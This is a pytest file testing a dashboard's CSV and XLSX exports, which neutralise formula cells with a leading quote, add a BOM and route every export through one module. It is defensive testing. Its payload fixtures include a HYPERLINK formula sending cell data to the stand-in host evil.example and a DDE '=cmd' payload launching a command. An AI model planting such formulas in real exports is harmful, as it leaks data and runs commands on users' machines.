"""dashboard/exports.py: CSV with a BOM, XLSX, and formula cells neutralised in every export (issue 17)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from dashboard import exports
from dashboard.components import rows_grid, table_card

PAYLOADS = {
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")': '\'=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "+1+2": "'+1+2",
    "-1+2": "'-1+2",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+2": "'\t=1+2",
    "\r=1+2": "'\r=1+2",
}
HARMLESS = ["环翠楼街道", "a=b", "", "'=already", " =1", "1-2"]


@pytest.mark.parametrize("raw", list(PAYLOADS))
def test_exp001_formula_text_gets_a_leading_quote(raw: str) -> None:
    assert exports.neutralise(raw) == PAYLOADS[raw]


@pytest.mark.parametrize("raw", HARMLESS)
def test_exp002_other_text_is_left_alone(raw: str) -> None:
    assert exports.neutralise(raw) == raw


def test_exp003_numbers_and_missing_values_are_not_text() -> None:
    assert exports.neutralise(-3) == -3
    assert exports.neutralise(-1.5) == -1.5
    assert exports.neutralise(None) is None


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "case_no": ["A1", "=1+2", "@x"],
            "town_name": ["环翠楼街道", "+tel", "张村镇"],
            "fine": [-300.0, 12.5, None],
            "day": pd.to_datetime(["2023-01-02", "2023-02-03", None]),
        }
    )


def test_exp004_csv_has_a_bom_and_neutralised_cells() -> None:
    data = exports.csv_bytes(_frame())
    assert data[:3] == b"\xef\xbb\xbf"
    text = data[3:].decode("utf-8")
    assert text.splitlines()[0] == "case_no,town_name,fine,day"
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [
        ["case_no", "town_name", "fine", "day"],
        ["A1", "环翠楼街道", "-300.0", "2023-01-02"],
        ["'=1+2", "'+tel", "12.5", "2023-02-03"],
        ["'@x", "张村镇", "", ""],
    ]


def test_exp005_csv_header_cells_are_neutralised_too() -> None:
    text = exports.csv_bytes(pd.DataFrame({"=evil": ["x"]}))[3:].decode("utf-8")
    assert text == "'=evil\r\nx\r\n"


def test_exp006_xlsx_cells_are_data_never_formulas() -> None:
    frame = _frame()
    frame["tab"] = ["\t=1", "\r=2", "ok\x07bell"]
    book = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(frame, "rows")))
    ws = book["rows"]
    values = [[c.value for c in row] for row in ws.iter_rows()]
    assert values == [
        ["case_no", "town_name", "fine", "day", "tab"],
        ["A1", "环翠楼街道", -300, dt.datetime(2023, 1, 2), "'\t=1"],
        ["'=1+2", "'+tel", 12.5, dt.datetime(2023, 2, 3), "'\r=2"],
        ["'@x", "张村镇", None, None, "okbell"],
    ]
    assert {c.data_type for row in ws.iter_rows() for c in row} <= {"s", "n", "d"}


def test_exp007_grid_csv_export_runs_the_same_rule_in_the_browser() -> None:
    params = exports.grid_csv_params("rows.csv")
    assert params == {
        "fileName": "rows.csv",
        "processCellCallback": {"function": 'kpiSafeCell(params, "=+-@\\t\\r", "\'")'},
    }


def test_exp008_every_grid_of_the_product_exports_through_it() -> None:
    frame = pd.DataFrame({"a": ["=1"]})
    grids = [rows_grid("g", frame, "zh", "x.csv"), table_card("k", "t", frame, "zh", "none").children[1].children]
    for grid in grids:
        assert grid.csvExportParams["processCellCallback"] == exports.grid_csv_params("x")["processCellCallback"]


# writing a file a user gets: a workbook made or saved, a cell or row put into a sheet, a frame written, a grid's
# export parameters spelled out, a page printed (styling cells through openpyxl.styles is fine)
WRITERS = re.compile(r"^import openpyxl|\bWorkbook\(|\b(?:wb|workbook)\.save\(|\.cell\([^)]*value=|\bws\.append\("
                     r"|\.to_csv\(|\.to_excel\(|csvExportParams=\{|xlsxwriter|print-to-pdf", re.M)


def test_exp009_no_other_module_of_the_app_writes_an_export_itself() -> None:
    """Every file the dashboard hands a user goes through dashboard/exports.py (or its grid parameters): the
    meeting pack's and /report's formatted workbooks put their cells through ``write_cell``/``append_row``."""
    root = Path(__file__).resolve().parents[1]
    files = [*(root / "dashboard").rglob("*.py"), *(root / "pages").rglob("*.py")]
    found = sorted(str(p.relative_to(root)) for p in files
                   if p.name != "exports.py" and WRITERS.search(p.read_text(encoding="utf-8")))
    assert found == []
